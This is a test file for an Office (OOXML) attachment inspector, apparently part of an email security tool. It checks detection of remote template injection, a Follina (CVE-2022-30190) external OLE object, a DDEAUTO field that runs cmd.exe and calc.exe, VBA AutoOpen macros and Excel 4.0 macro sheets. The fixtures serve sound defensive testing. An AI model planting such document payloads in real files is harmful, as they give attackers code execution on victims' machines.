import { describe, expect, it } from 'vitest';
import {
  inspectOoxml,
  isOoxml,
  ooxmlWants,
  parseRelationships,
} from '../../../src/message/attachments/ooxml.js';
import { readZip } from '../../../src/message/attachments/zip.js';
import { makeDocx, makeVbaOle, rels } from './helpers.js';

async function inspect(doc: Buffer) {
  const listing = await readZip(doc, { budget: { remaining: 1e7 }, wants: (e) => ooxmlWants(e.name) });
  expect(isOoxml(listing.entries.map((e) => e.name))).toBe(true);
  return inspectOoxml(
    listing.members,
    listing.entries.map((e) => e.name),
  );
}

describe('parseRelationships', () => {
  it('reads attributes in any order and quoting, with entities decoded', () => {
    const xml = `<Relationships><Relationship TargetMode='External' Target="https://a.example/?x=1&amp;y=2" Type="http://x/hyperlink" Id="rId3"/></Relationships>`;
    expect(parseRelationships('word/_rels/document.xml.rels', xml)).toEqual([
      {
        part: 'word/_rels/document.xml.rels',
        id: 'rId3',
        type: 'http://x/hyperlink',
        target: 'https://a.example/?x=1&y=2',
        external: true,
      },
    ]);
  });
});

describe('inspectOoxml', () => {
  it('returns hyperlinks as links and nothing alarming for a plain document', async () => {
    const doc = await makeDocx([
      {
        name: 'word/_rels/document.xml.rels',
        data: rels([
          { id: 'rId1', type: 'styles', target: 'styles.xml' },
          { id: 'rId2', type: 'hyperlink', target: 'https://portal.example/pay', external: true },
        ]),
      },
    ]);
    const r = await inspect(doc);
    expect(r.links).toEqual([{ url: 'https://portal.example/pay', kind: 'hyperlink' }]);
    expect(r.observations).toEqual([]);
    expect(r.vbaProjects).toEqual([]);
  });
  it('hands vbaProject.bin to the OLE inspector', async () => {
    const vba = makeVbaOle({ ThisDocument: 'Sub AutoOpen()\r\nEnd Sub\r\n' }, 'VBA/');
    const r = await inspect(await makeDocx([{ name: 'word/vbaProject.bin', data: vba }]));
    expect(r.vbaProjects).toHaveLength(1);
    expect(Buffer.from(r.vbaProjects[0])).toEqual(vba);
  });
  it('flags a remote template (template injection)', async () => {
    const doc = await makeDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        data: rels([
          { id: 'rId1', type: 'attachedTemplate', target: 'http://203.0.113.9/t.dotm', external: true },
        ]),
      },
    ]);
    const r = await inspect(doc);
    expect(r.observations).toHaveLength(1);
    expect(r.observations[0]).toMatchObject({ code: 'office-external-object', evidence: { follina: false } });
    expect(r.links).toEqual([{ url: 'http://203.0.113.9/t.dotm', kind: 'attachedTemplate' }]);
  });
  it('recognises the Follina (CVE-2022-30190) external OLE object', async () => {
    const doc = await makeDocx([
      {
        name: 'word/_rels/document.xml.rels',
        data: rels([
          {
            id: 'rId996',
            type: 'oleObject',
            target: 'mhtml:http://x.example/a.html!x-usc:http://x.example/a.html',
            external: true,
          },
        ]),
      },
    ]);
    expect((await inspect(doc)).observations[0].evidence).toMatchObject({ follina: true });
  });
  it('flags DDE fields', async () => {
    const body =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r></w:p>';
    const r = await inspect(await makeDocx([], body));
    expect(r.observations.map((o) => o.code)).toEqual(['office-dde']);
    expect(String(r.observations[0].evidence?.field)).toMatch(/^DDEAUTO c:/);
  });
});

describe('inspectOoxml: Excel 4.0 macro sheets', () => {
  it('flags xl/macrosheets parts', async () => {
    const xlsm = await makeDocx([{ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }]);
    expect((await inspect(xlsm)).observations.map((o) => o.code)).toEqual(['xlm-macro']);
  });
});
